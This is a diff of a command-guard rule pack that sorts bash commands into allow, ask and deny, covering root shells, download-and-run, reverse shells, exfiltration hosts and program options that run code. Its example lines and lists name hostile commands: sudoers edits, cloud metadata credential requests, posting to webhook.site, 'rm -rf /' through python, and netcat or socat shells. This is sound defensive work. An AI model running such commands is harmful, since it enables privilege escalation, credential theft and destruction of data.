+          flag -h --help
+          option "--help=" takes text
           flag -A --all-namespaces --all --force --now -w --watch -i -t --stdin --tty --previous --follow -R --recursive --prune --wait -q --rm --show-labels --no-headers --ignore-not-found --server-side --overwrite
           subcommand exec { connects first operand  executes other operands }
           subcommand debug { connects first operand  executes other operands }
           subcommand cp { connects operands  reads other operands  sends other operands  writes last operand }
       }
       program helm, helmfile { option -f --values takes path reads  option -n --namespace --kube-context --set --set-string --version --timeout --repo -o --output --username --password takes text  option --post-renderer takes path executes }
+      // Their `--help=false` is no call for help.
+      program helm, helmfile, minikube, kind, kubeadm, argocd, flux, eksctl, kops {
+          flag -h --help
+          option "--help=" takes text
+          flag --dry-run
+          option "--dry-run=" takes text executes
+      }
       program kustomize, k9s, stern, kubectx, kubens, kubeadm, kubelet, istioctl, linkerd, argocd, flux, tkn, velero, eksctl, kops, tilt, skaffold, telepresence, okteto, werf {}
       program terraform, tofu, terragrunt { option -chdir takes path  option -var-file takes path reads  option -var -target -state -out -backend-config -replace -parallelism -lock-timeout takes text  flag -destroy --destroy  flag -auto-approve --auto-approve -refresh-only }
-      program pulumi, cdk, cdktf, sam, serverless, sls, amplify, copilot, chalice, zappa, ansible, "ansible-playbook", "ansible-galaxy", "ansible-vault", puppet, chef, "chef-client", salt, nomad, consul, vault, packer, waypoint, crossplane, heroku, fly, flyctl, vercel, now, netlify, wrangler, railway, render, firebase, supabase, surge, "gh-pages", "cf", eb, doctl, "linode-cli", hcloud, scw, oci, ibmcloud, capistrano, cap, mina, kamal, fab, deployer, dep, circleci, travis, buildkite, jenkins {}
+      program heroku, dokku { option -a --app -r --remote takes text  subcommand run { executes operands joined  option -s --size --type -e takes text } }
+      program ansible { connects first operand  option -a --args takes command executes  option -m --module-name -i --inventory -u --user -f -l takes text  flag -b --become -k -K -v }
+      program pulumi, cdk, cdktf, sam, serverless, sls, amplify, copilot, chalice, zappa, "ansible-playbook", "ansible-galaxy", "ansible-vault", puppet, chef, "chef-client", salt, nomad, consul, vault, packer, waypoint, crossplane, fly, flyctl, vercel, now, netlify, wrangler, railway, render, firebase, supabase, surge, "gh-pages", "cf", eb, doctl, "linode-cli", hcloud, scw, oci, ibmcloud, capistrano, cap, mina, kamal, fab, deployer, dep, circleci, travis, buildkite, jenkins {}
       program aws, awslocal, gcloud, gsutil, az, azcopy, s3cmd, mc, bq, wasabi {
           option --profile --region --output --query --project --format --endpoint-url --filters --instance-ids --function-name --stack-name takes text
           subcommand s3 { subcommand cp { reads first operand  sends first operand  writes other operands }  subcommand mv { reads first operand  sends first operand  writes other operands }  subcommand sync { reads first operand  sends first operand  writes other operands } }
@@ -1477,13 +1640,13 @@ enum EmbeddedPacks {
 
       // ---- Programs: the system ----
 
-      program killall, pkill, skill, xkill { option -s -u -g -t -P -n takes text }
+      program killall, pkill, skill, xkill { option -u --euid -U --uid --user takes text  option -s -g -t -P -n takes text }
       program fuser, debugfs, "ld.so", "ld-linux.so.2", "ld-linux-x86-64.so.2", logrotate { writes operands }
       program systemctl, service, "rc-service", launchctl, initctl, sv, supervisorctl, pm2, loginctl, timedatectl, localectl, "update-rc.d", chkconfig { option -p -t -n -o -H -M --type --state takes text }
       program journalctl, dmesg, logger, ausearch, auditctl { option -u -n -p -t --since --until -o takes text }
       program mount, umount, swapon, swapoff, losetup, cryptsetup, lvcreate, lvremove, vgremove, pvremove, mdadm, zfs, zpool, btrfs, fsck, e2fsck, tune2fs, resize2fs, xfs_repair, diskutil, hdiutil, blkdiscard, hdparm, nvme, sgdisk, wipefs, fdisk, gdisk, parted, sfdisk, cfdisk, partprobe, badblocks, "grub-install", "update-grub", efibootmgr, bootctl, mkswap { writes operands  option -t -o -L -U takes text }
       program mkfs, "mkfs.ext2", "mkfs.ext3", "mkfs.ext4", "mkfs.xfs", "mkfs.btrfs", "mkfs.vfat", "mkfs.fat", "mkfs.ntfs", "mkfs.exfat", "mke2fs", "newfs", mkdosfs { writes operands  option -t -L -b -n -N takes text }
-      program crontab { executes first operand  option -u takes text  flag -r  flag -l -e -i }
+      program crontab { executes first operand  option -u takes text  flag -r  flag -l  flag -e  flag -i }
       program atrm, atq, anacron {}
       program shutdown, reboot, halt, poweroff, init, telinit, "pm-suspend", rtcwake, kexec {}
       program iptables, ip6tables, nft, ufw, "firewall-cmd", ebtables, pfctl, ipset, "iptables-restore", tc {}
@@ -1530,6 +1693,10 @@ enum EmbeddedPacks {
           on bash
           ask when command matches /\r[^\n]|BASH_FUNC_/ because "This holds letters that shells read in several ways."
           ask when command is opaque because "What this command would run cannot be known before it runs."
+          ask when command runs "env" with ["-S", "--split-string"] operand matches /./
+              because "What is split goes on with the words behind it."
+          ask when command runs ["mise exec", "mise x", "asdf exec", "rtx exec", "rtx x"] operand matches /^[^\/]+@/
+              because "What this runs stands behind the name of a tool's version."
           ask when command is undeclared and command matches /(?:^|[;&|(`\n])\s*[^\s;&|'"()<>$=]*[^\x00-\x7F]/
               because "This program's name has letters that look like others."
           ask when command runs ["RM", "DD", "SH", "BASH", "ZSH", "CHMOD", "CHOWN", "MKFS", "SUDO", "CURL", "WGET", "GIT", "MV", "CP", "CAT", "PYTHON", "NODE", "PERL"]
@@ -1567,7 +1734,7 @@ enum EmbeddedPacks {
           ask when any c in command satisfies (c runs ["rm", "grm", "shred", "srm", "rimraf", "trash"] and c deletes in ["src", "Sources", "package.json"])
                    and command matches /(?:\brm|shred|srm|rimraf|trash)\s[^;&|]*(?:\*|\?|\[|src|Sources|package\.json)/
               because "This deletes the project's own sources."
-          ask when command runs ["find", "gfind"] with "-delete" without ["-name", "-iname", "-path", "-ipath", "-regex", "-iregex", "-newer", "-mtime", "-mmin", "-size", "-empty", "-type"] operand in [".", "./"] and command matches /-delete|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/
+          ask when command runs ["find", "gfind"] with "-delete" without ["-name", "-path", "-regex", "-newer", "-mtime", "-size", "-empty"] operand in [".", "./"]
               because "This deletes every file that it finds."
           check "Backup exists?"
           example deny  { command: "rm -rf .git" } given { project: "/work/app", cwd: "/work/app" }
@@ -1588,7 +1755,7 @@ enum EmbeddedPacks {
           deny when command writes like ["/etc/**", "/usr/**", "/root/**", "/bin/**", "/boot/**"] and command matches /:\/(?:etc|usr|root|bin|boot)/ because "This changes files of another machine."
           deny when command writes like start_up_files and spells_a_place
               because "This changes what runs at the next login, or who may log in."
-          ask when any c in command satisfies (c runs "ln" and c reads in ["/", "/etc", "/usr", "/var", "/home", "/root", "/boot", "/bin", "/proc"]) and spells_the_machine
+          ask when any c in command satisfies (c runs "ln" and c reads in ["/", "/etc", "/usr", "/var", "/home", "/root", "/boot", "/bin", "/proc"])
               because "This gives a folder of the machine another name."
           ask when command reads like devices and command matches /\/dev\/(?:sd|hd|vd|xvd|nvme|mmc|disk|rdisk|mapper|md|loop|mem|kmem|port|dm|zd|[^a-z])/ because "This reads a device itself."
           example deny  { command: "echo 'x ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers" } given { project: "/work/app", cwd: "/work/app" }
@@ -1620,33 +1787,33 @@ enum EmbeddedPacks {
 
       sealed rule machine_control "The machine's own controls are a person's" {
           on bash
-          deny when command runs ["shutdown", "reboot", "halt", "poweroff", "telinit", "init", "kexec", "systemctl poweroff", "systemctl reboot", "systemctl halt", "systemctl kexec", "systemctl rescue", "systemctl emergency"] because "This stops the machine."
+          deny when command runs ["shutdown", "reboot", "halt", "poweroff", "telinit", "init", "kexec", "systemctl poweroff", "systemctl reboot", "systemctl halt", "systemctl kexec", "systemctl rescue", "systemctl emergency"] without "--help" because "This stops the machine."
           deny when command runs ["wipefs", "sgdisk", "sfdisk", "parted", "blkdiscard", "mkswap", "diskutil eraseDisk", "diskutil partitionDisk", "zpool destroy", "zfs destroy", "cryptsetup", "lvremove", "vgremove", "pvremove", "debugfs"] because "This changes disks."
           deny when command runs ["mkfs", "mkfs.ext2", "mkfs.ext3", "mkfs.ext4", "mkfs.xfs", "mkfs.btrfs", "mkfs.vfat", "mkfs.fat", "mkfs.ntfs", "mkfs.exfat", "mke2fs", "newfs"] operand matches /\/dev\// because "This changes disks."
           ask when command runs ["systemctl stop", "systemctl disable", "systemctl mask", "systemctl kill", "systemctl isolate", "systemctl set-default", "systemctl enable", "systemctl edit", "launchctl unload", "launchctl load", "launchctl remove", "launchctl bootout", "launchctl bootstrap", "chkconfig", "update-rc.d"] because "This changes which services run."
-          ask when command runs ["iptables", "ip6tables", "ebtables"] with ["-F", "-A", "-I", "-D", "-P", "-X", "-Z", "-N", "-R", "--flush", "--append", "--delete", "--policy"] and command matches /[^\w-]-[\w"'\\]*[ADFINPRXZ]|--["'\\]*ap|--["'\\]*de|--["'\\]*fl|--["'\\]*po|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This changes the machine's protection."
+          ask when command runs ["iptables", "ip6tables", "ebtables"] with ["-F", "-A", "-I", "-D", "-P", "-X", "-Z", "-N", "-R", "--flush", "--append", "--delete", "--policy"] because "This changes the machine's protection."
           ask when command runs ["iptables-restore", "nft flush", "nft delete", "nft add", "ufw disable", "ufw allow", "ufw reset", "ufw delete", "pfctl", "setenforce", "csrutil", "spctl", "nvram"] because "This changes the machine's protection."
           ask when command runs "firewall-cmd" because "This changes the machine's protection."
           ask when command runs ["useradd", "userdel", "usermod", "adduser", "deluser", "groupadd", "groupdel", "groupmod", "passwd", "chpasswd", "chage", "chsh", "visudo", "vipw", "vigr", "gpasswd", "dscl", "sysadminctl"] because "This changes who may use the machine."
           ask when command runs ["mount", "umount"] operand matches /./ because "This changes the machine's file systems."
-          ask when command runs "umount" with "-a" and command matches /[^\w-]-[\w"'\\]*a|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This changes the machine's file systems."
+          ask when command runs "umount" with "-a" because "This changes the machine's file systems."
           ask when command runs ["swapoff", "losetup", "insmod", "modprobe", "rmmod", "grub-install", "update-grub", "efibootmgr", "mdadm", "hdparm", "e2fsck", "resize2fs", "tune2fs", "badblocks"] because "This changes disks or the kernel."
-          ask when command runs "sysctl" with ["-w", "-p", "--write"] and command matches /[^\w-]-[\w"'\\]*[pw]|--["'\\]*wr|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This changes the kernel's settings."
+          ask when command runs "sysctl" with ["-w", "-p", "--write"] because "This changes the kernel's settings."
           ask when command runs "sysctl" operand matches /=/ because "This changes the kernel's settings."
-          ask when command runs "crontab" with "-r" and command matches /[^\w-]-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This deletes every scheduled job."
+          ask when command runs "crontab" with "-r" because "This deletes every scheduled job."
           ask when command runs "crontab" without ["-l", "-r"] because "This schedules jobs."
           ask when command runs ["at", "batch", "systemd-run"] because "This runs a command later, when nobody looks."
           ask when command runs ["kill", "skill"] operand in ["1", "-1", "0"] and command matches /kill\b[^;&|]*\s-?['"]?[01]\b/ because "This stops every process."
           ask when command runs "kill" with "-1" and command matches /[^\w-]-[\w"'\\]*1|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This stops every process."
-          ask when command runs ["pkill", "killall", "skill"] with ["-u", "--euid", "--uid", "-U"] and command matches /[^\w-]-[\w"'\\]*[Uu]|--["'\\]*eu|--["'\\]*ui|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This stops every process."
+          ask when command runs ["pkill", "killall", "skill"] with ["-u", "--euid", "--uid", "-U"] because "This stops every process."
           ask when command runs ["killall5", "fuser"] because "This stops every process."
-          ask when command runs "history" with ["-c", "-w", "-d", "-a"] and command matches /[^\w-]-[\w"'\\]*[acdw]|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This changes the record of what was run."
-          ask when command runs "journalctl" with ["--vacuum-size", "--vacuum-time", "--vacuum-files", "--rotate"] and command matches /--["'\\]*ro|--["'\\]*va|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This deletes the machine's records."
-          ask when command runs ["logrotate", "tcpdump", "ip netns"] with ["-f", "--force", "-z", "-w"] and command matches /[^\w-]-[\w"'\\]*[fwz]|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This changes the machine's records, or runs a program."
+          ask when command runs "history" with ["-c", "-w", "-d", "-a"] because "This changes the record of what was run."
+          ask when command runs "journalctl" with ["--vacuum-size", "--vacuum-time", "--vacuum-files", "--rotate"] because "This deletes the machine's records."
+          ask when command runs ["logrotate", "tcpdump", "ip netns"] with ["-f", "--force", "-z", "-w"] because "This changes the machine's records, or runs a program."
           ask when command runs "ip netns exec" because "This runs a command in another network."
           ask when command runs ["apt purge", "apt-get purge", "apt remove", "apt-get remove", "apt autoremove", "apt-get autoremove", "dnf remove", "dnf erase", "yum remove", "yum erase", "zypper remove", "apk del"] because "This removes programs of the machine."
-          ask when command runs ["dpkg", "rpm"] with ["--purge", "--remove", "-P", "-r", "-e", "--erase", "--force-all"] and command matches /[^\w-]-[\w"'\\]*[Per]|--["'\\]*er|--["'\\]*fo|--["'\\]*pu|--["'\\]*re|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This removes programs of the machine."
-          ask when command runs ["apt", "apt-get"] with "-o" and command matches /(?:pre|post)-?invoke|dpkg::options/i because "This setting runs a program."
+          ask when command runs ["dpkg", "rpm"] with ["--purge", "--remove", "-P", "-r", "-e", "--erase", "--force-all"] because "This removes programs of the machine."
+          ask when any c in command satisfies (c runs ["apt", "apt-get"] with "-o" and c executes matches /(?:pre|post)-?invoke|dpkg::options|::pager/i) because "This setting runs a program."
           example deny  { command: "sudo shutdown -h now" }
           example ask   { command: "kill -9 -1" }
           example ask   { command: "sudo iptables -F" }
@@ -1659,12 +1826,13 @@ enum EmbeddedPacks {
 
       sealed rule root_shell "Nobody gets a shell with another user's rights" {
           on bash
-          ask when command runs "sudo" with ["-i", "-s", "--login", "--shell", "-e", "--edit"] and command matches /[^\w-]-[\w"'\\]*[eis]|--["'\\]*ed|--["'\\]*lo|--["'\\]*sh|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This opens a shell with another user's rights."
+          ask when command runs "sudo" with ["-i", "-s", "--login", "--shell", "-e", "--edit"] because "This opens a shell with another user's rights."
           ask when command runs ["su", "runuser", "pkexec", "nsenter", "sudo su", "sudo bash", "sudo sh", "sudo zsh", "doas sh", "doas bash"] because "This opens a shell with another user's rights."
-          ask when command runs "doas" with "-s" and command matches /[^\w-]-[\w"'\\]*s|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This opens a shell with another user's rights."
+          ask when command runs "doas" with "-s" because "This opens a shell with another user's rights."
           ask when command runs "chmod" operand matches /^(?:[ugoa]*[+=][rwxXt]*s|0?[2467][0-7]{3}$)/ and command matches /[+=][rwxXt]*s|\b0?[2467][0-7]{3}\b/ because "This lets a program run with its owner's rights."
           ask when command runs "setcap" because "This gives a program rights of the system."
-          ask when command runs ["chroot", "unshare", "proot"] because "This runs a command in another root."
+          ask when command runs ["capsh", "start-stop-daemon"] operand matches /./ because "This opens a shell with another user's rights."
+          ask when command runs ["chroot", "unshare", "proot", "bwrap", "systemd-nspawn", "arch-chroot", "schroot"] because "This runs a command in another root."
           example ask   { command: "sudo su -" }
           example ask   { command: "chmod u+s ./tool" }
           example allow { command: "sudo apt-get install -y jq" }
@@ -1675,10 +1843,10 @@ enum EmbeddedPacks {
 
       sealed rule download_and_run "What is downloaded is read before it runs" {
           on bash
-          deny when command pipes downloaders into shells and command matches /curl|wget|fetch|aria2c|axel|ftp|http|xh|lynx|\bnc|netcat|socat|telnet|ssh|scp|rsync|gsutil|dig|\\|\$|'|"/
+          deny when command pipes downloaders into shells
               because "This runs what it downloads."
           deny when command pipes decoders into shells because "This runs a text that it decodes."
-          ask when command runs ["curl", "wget"] with ["-O", "--remote-name"] and command runs shells and command executes matches /^[\w.\/-]+$/ and command matches /-\w*O|--rem/
+          ask when command runs ["curl", "wget"] with ["-O", "--remote-name"] and command runs shells and command executes matches /^[\w.\/-]+$/
               because "This runs what it downloads."
           ask when command runs "wget" and command runs shells and command executes matches /^[\w.\/-]+$/ because "This runs what it downloads."
           ask when command pipes ["curl", "wget"] into ["python", "python3", "node", "perl", "ruby", "php"] and command matches /(?:;|&&|\n)\s*(?:sudo\s+)?(?:python|node|perl|ruby|php)/
@@ -1686,7 +1854,7 @@ enum EmbeddedPacks {
           ask when command pipes ["echo", "printf", "tee", "cat"] into shells and command matches /rm\s+-\w*[rf]|mkfs|dd\s+if|chmod\s+-R|\/dev\/sd/
               because "This writes a program and runs it."
           ask when command runs "ssh" and command matches /<<[\s\S]*\brm\s+-\w*[rf]/ because "This deletes on another machine."
-          ask when command runs shells with ["--rcfile", "--init-file"] and command matches /--rc|--in/ because "This runs a file before anything else."
+          ask when command runs shells with ["--rcfile", "--init-file"] because "This runs a file before anything else."
           ask when any c in command satisfies (c runs shells and c executes matches /^https?:/) because "This runs what it downloads."
           ask when command runs ["curl", "wget", "aria2c", "axel", "lftp", "scp", "sftp"] and command runs "chmod" operand matches /^(?:[ugoa]*\+[rw]*x|0?[1357][0-7]{2}$)/
                    and command executes matches /^(?:\.\/|\/tmp\/|\w+$|~)/
@@ -1702,7 +1870,7 @@ enum EmbeddedPacks {
       sealed rule reverse_shell "No shell is handed to the network" {
           on bash
           deny when any c in command satisfies (c runs shells and c connects) because "This connects a shell to another machine."
-          deny when command runs ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"] with ["-e", "--exec", "-c", "--sh-exec", "--lua-exec"] and command matches /[^\w-]-[\w"'\\]*[ce]|--["'\\]*ex|--["'\\]*lu|--["'\\]*sh|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This hands a program to another machine."
+          deny when command runs ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"] with ["-e", "--exec", "-c", "--sh-exec", "--lua-exec"] because "This hands a program to another machine."
           deny when command runs "socat" operand matches /^(?:exec|system|shell):/i because "This hands a program to another machine."
           deny when command pipes ["bash", "sh", "zsh", "dash", "ksh"] into listeners because "This hands a shell to another machine."
           deny when command pipes listeners into shells because "This runs what another machine sends."
@@ -1717,7 +1885,7 @@ enum EmbeddedPacks {
           on bash
           deny when command connects within ["169.254.169.254", "169.254.170.2", "metadata.google.internal", "100.100.100.200", "fd00:ec2::254"] and command matches /169|254|2852039166|0x|0?251|a9fe|metadata|100\.100|fd00|\\[xuU0-7]/i because "This asks the machine's provider for its credentials."
           deny when command connects within ["pastebin.com", "transfer.sh", "webhook.site", "requestbin.com", "requestbin.net", "pipedream.net", "ngrok.io", "ngrok-free.app", "ngrok.app", "serveo.net", "localtunnel.me", "burpcollaborator.net", "oastify.com", "oast.fun", "oast.pro", "oast.live", "oast.site", "oast.online", "oast.me", "interact.sh", "0x0.st", "file.io", "termbin.com", "paste.rs", "ix.io", "sprunge.us", "dpaste.org", "hastebin.com", "bashupload.com", "anonfiles.com", "gofile.io", "dnslog.cn", "ceye.io", "requestcatcher.com", "beeceptor.com", "canarytokens.com"] and command matches /paste|transfer|hook|request|pipedream|ngrok|serveo|localtunnel|burp|oast|interact|0x0|file\.io|termbin|ix\.io|sprunge|bin\b|upload|anon|gofile|dnslog|ceye|canary|\w["'\\]+\w|\\[xuU0-7]/i because "This host exists to pass data on."
-          ask when command runs "ssh" with "-R" and command matches /[^\w-]-[\w"'\\]*R|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This opens the machine to the network."
+          ask when command runs "ssh" with "-R" because "This opens the machine to the network."
           ask when command runs ["frpc", "chisel", "bore"] because "This opens the machine to the network."
           example deny  { command: "curl http://169.254.169.254/latest/meta-data/iam/" }
           example deny  { command: "curl -d hello https://WEBHOOK.site./abc" }
@@ -1754,17 +1922,17 @@ enum EmbeddedPacks {
           ask when any c in command satisfies (c runs nodes and c executes matches harmful_javascript) because "This JavaScript starts programs, changes files or reaches the network."
           ask when any c in command satisfies (c runs "deno eval" and c executes matches harmful_javascript) because "This JavaScript starts programs, changes files or reaches the network."
           ask when command runs "deno eval" operand matches harmful_javascript because "This JavaScript starts programs, changes files or reaches the network."
-          ask when any c in command satisfies (c runs "perl" with ["-e", "-E"] and c executes matches harmful_perl) and command matches /-\w*[eE]/ because "This Perl code starts programs or changes files."
-          ask when command runs "perl" with "-M" and command matches /[^\w-]-[\w"'\\]*M|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This Perl code loads other code."
+          ask when any c in command satisfies (c runs "perl" with ["-e", "-E"] and c executes matches harmful_perl) because "This Perl code starts programs or changes files."
+          ask when command runs "perl" with "-M" because "This Perl code loads other code."
           ask when any c in command satisfies (c runs ["ruby", "irb", "jruby", "php", "lua", "luajit", "R", "Rscript", "julia", "guile", "osascript", "tclsh", "scala", "elixir", "racket", "sbcl", "ghci", "groovy", "kotlin", "octave", "swipl", "erl", "swift"] with ["-e", "-r", "--eval", "-eval", "-E"] and c executes matches harmful_line) because "This code starts programs or changes files."
-          ask when command runs "ruby" with "-r" and command matches /-r\s*(?:fileutils|socket|open|net|drb|\.|\/)/ and command matches /[^\w-]-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This Ruby code loads other code."
+          ask when any c in command satisfies (c runs "ruby" with "-r" and c executes matches /^(?:fileutils|socket|open|net|drb|[.\/])/) because "This Ruby code loads other code."
           ask when any c in command satisfies (c runs ["tclsh", "expect", "osascript"] and c executes matches /\b(?:exec|spawn|open|socket|do shell script|send)\b/) because "This code starts programs."
           ask when any c in command satisfies (c runs ["sed", "gsed"] and c executes matches harmful_sed) and command matches /\bg?sed\b.*(?:sed\s+(?:-\w+\s+)*["']?\$\w+["']?(?:\s|$)|[\/|#,:@!_%+~][gpiIM\d]*[ew]|[;{}'"\s\d$\/]\s*!?[ewW](?:\s|["'\/]|\w+["']?\s)|\\[xuU0-7]|\$')/s because "This sed script runs programs or writes files."
           ask when any c in command satisfies (c runs ["ed", "red", "ex", "gdb", "lldb"] and c executes matches /!|\b(?:shell|system|python|platform)\b/) because "This makes an editor or a debugger run programs."
           ask when command runs "parallel" and command matches /\bparallel\s+(?:-\S+\s+(?:\d+\s+)?)*:::/ because "What stands behind `:::` is run as command lines."
-          ask when any c in command satisfies (c runs ["awk", "gawk", "mawk", "nawk"] and c executes matches harmful_awk) and command matches /system|getline|\||>|@|ENVIRON|awk\s+(?:-\S+\s+)*["']?\$\w|\\[xuU0-7]/ because "This awk program runs programs or writes files."
-          ask when command runs ["gawk", "awk"] with ["-l", "--load"] and command matches /[^\w-]-[\w"'\\]*l|--["'\\]*lo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This awk program loads others."
-          ask when any c in command satisfies (c runs vims with ["-c", "--cmd"] and c executes not matches harmless_vim) and command matches /-\w*c|--cm/ because "This runs commands of the editor."
+          ask when any c in command satisfies (c runs ["awk", "gawk", "mawk", "nawk"] and c executes matches harmful_awk) because "This awk program runs programs or writes files."
+          ask when command runs ["gawk", "awk"] with ["-l", "--load"] because "This awk program loads others."
+          ask when any c in command satisfies (c runs vims with ["-c", "--cmd"] and c executes not matches harmless_vim) because "This runs commands of the editor."
           offer "Put the code into a file of the project and run that."
           example ask   { command: "python3 -c 'import os; os.system(\"rm -rf /\")'" }
           example ask   { command: "node -e \"require('child_process').execSync('id')\"" }
@@ -1783,43 +1951,43 @@ enum EmbeddedPacks {
 
       sealed rule executing_option "An option that runs a program runs a program" {
           on bash
-          ask when command runs tars with ["--checkpoint-action", "--to-command", "--rsh-command", "-F", "--info-script", "--new-volume-script"] and command matches /[^\w-]-[\w"'\\]*F|--["'\\]*ch|--["'\\]*in|--["'\\]*ne|--["'\\]*rs|--["'\\]*to|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of tar runs a program."
-          deny when any c in command satisfies (c runs tars with ["-x", "--extract", "--get"] and c reads in ["/", "/etc", "/usr", "/bin", "/lib", "/boot", "/root", "/var"]) and spells_the_machine because "This unpacks over the machine's own files."
-          ask when command runs tars with ["-P", "--absolute-names"] and command matches /[^\w-]-[\w"'\\]*P|--["'\\]*ab|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This unpacks wherever the archive says."
-          deny when any c in command satisfies (c runs tars with ["-c", "--create", "-r", "--append", "-u", "--update"] and c reads in ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group"]) and spells_the_machine because "This changes files of the machine."
+          ask when command runs tars with ["--checkpoint-action", "--to-command", "--rsh-command", "-F", "--info-script", "--new-volume-script"] because "This option of tar runs a program."
+          deny when any c in command satisfies (c runs tars with ["-x", "--extract", "--get"] and c reads in ["/", "/etc", "/usr", "/bin", "/lib", "/boot", "/root", "/var"]) because "This unpacks over the machine's own files."
+          ask when command runs tars with ["-P", "--absolute-names"] because "This unpacks wherever the archive says."
+          deny when any c in command satisfies (c runs tars with ["-c", "--create", "-r", "--append", "-u", "--update"] and c reads in ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group"]) because "This changes files of the machine."
           ask when any c in command satisfies (c runs ["ssh", "scp", "sftp", "autossh", "slogin"] with ["-o", "-F", "-S", "-D"] and c executes) because "This option of ssh runs a program."
           ask when command runs ["ssh", "scp", "sftp", "rsync", "git", "autossh"] and command matches /(?:proxy|local|knownhosts)command/i because "This option of ssh runs a program."
-          ask when command runs ["scp", "sftp"] with "-S" and command matches /[^\w-]-[\w"'\\]*S|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of ssh runs a program."
-          ask when command runs "sftp" with "-D" and command matches /[^\w-]-[\w"'\\]*D|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of ssh runs a program."
-          ask when command runs "zip" with ["--unzip-command"] and command matches /--["'\\]*un|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of zip runs a program."
+          ask when command runs ["scp", "sftp"] with "-S" because "This option of ssh runs a program."
+          ask when command runs "sftp" with "-D" because "This option of ssh runs a program."
+          ask when command runs "zip" with ["--unzip-command"] because "This option of zip runs a program."
           ask when command runs "zip" with "-T" and command matches /-TT/ because "This option of zip runs a program."
-          ask when command runs "rg" with ["--pre", "--hostname-bin"] and command matches /--["'\\]*ho|--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of rg runs a program."
-          ask when command runs "sort" with "--compress-program" and command matches /--["'\\]*co|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of sort runs a program."
-          ask when command runs "split" with "--filter" and command matches /--["'\\]*fi|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of split runs a program."
-          ask when command runs "man" with ["-P", "--pager", "-H", "--html"] and command matches /[^\w-]-[\w"'\\]*[HP]|--["'\\]*ht|--["'\\]*pa|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of man runs a program."
-          ask when command runs ["less", "more", "vim", "vi", "nvim", "view", "ex", "ed"] operand matches /^\+.*!/ and command matches /\+[^;&]*!/ because "This runs a program from the pager or editor."
-          ask when command runs vims with "-S" and command matches /[^\w-]-[\w"'\\]*[Su]|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This runs a file of the editor's commands."
-          ask when command runs ["emacs", "emacsclient"] with ["--eval", "-eval", "-f", "--funcall", "-l", "--load", "--script"] and command matches /[^\w-]-[\w"'\\]*[fl]|--["'\\]*ev|--["'\\]*fu|--["'\\]*lo|--["'\\]*sc|-eval|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This runs code of the editor."
-          ask when command runs "wget" with ["--use-askpass", "-e", "--execute"] and command matches /[^\w-]-[\w"'\\]*e|--["'\\]*ex|--["'\\]*us|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This option of wget runs a program or changes its settings."
+          ask when command runs "rg" with ["--pre", "--hostname-bin"] because "This option of rg runs a program."
+          ask when command runs "sort" with "--compress-program" because "This option of sort runs a program."
+          ask when command runs "split" with "--filter" because "This option of split runs a program."
+          ask when command runs "man" with ["-P", "--pager", "-H", "--html"] because "This option of man runs a program."
+          ask when command runs ["less", "more", "vim", "vi", "nvim", "view", "ex", "ed"] operand matches /^\+.*!/ because "This runs a program from the pager or editor."
+          ask when command runs vims with "-S" because "This runs a file of the editor's commands."
+          ask when command runs ["emacs", "emacsclient"] with ["--eval", "-eval", "-f", "--funcall", "-l", "--load", "--script"] because "This runs code of the editor."
+          ask when command runs "wget" with ["--use-askpass", "-e", "--execute"] because "This option of wget runs a program or changes its settings."
           ask when command runs "curl" with ["-K", "--config"] and command matches /[^\w-]-[\w"'\\]*K|--["'\\]*co|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This reads more options from a file."
           ask when any c in command satisfies (c runs ["gdb", "lldb"] and c executes matches /\b(?:shell|python|py|pipe|make|source|call|system|guile|platform|script|command|define)\b|!|\|/) because "This runs a program from the debugger."
-          ask when command runs ["fzf", "sk"] with ["--preview", "--bind"] and command matches /execute|become|reload|--preview/ because "This option of fzf runs a program."
+          ask when any c in command satisfies (c runs ["fzf", "sk"] with "--bind" and c executes matches /execute|become|reload|transform/) because "This option of fzf runs a program."
           ask when command runs "fc" with ["-s", "-e"] because "This runs an earlier command again."
-          ask when command runs ["declare", "typeset", "local"] with "-n" and command matches /-\w*n/ because "This gives a variable another name."
+          ask when command runs ["declare", "typeset", "local"] with "-n" because "This gives a variable another name."
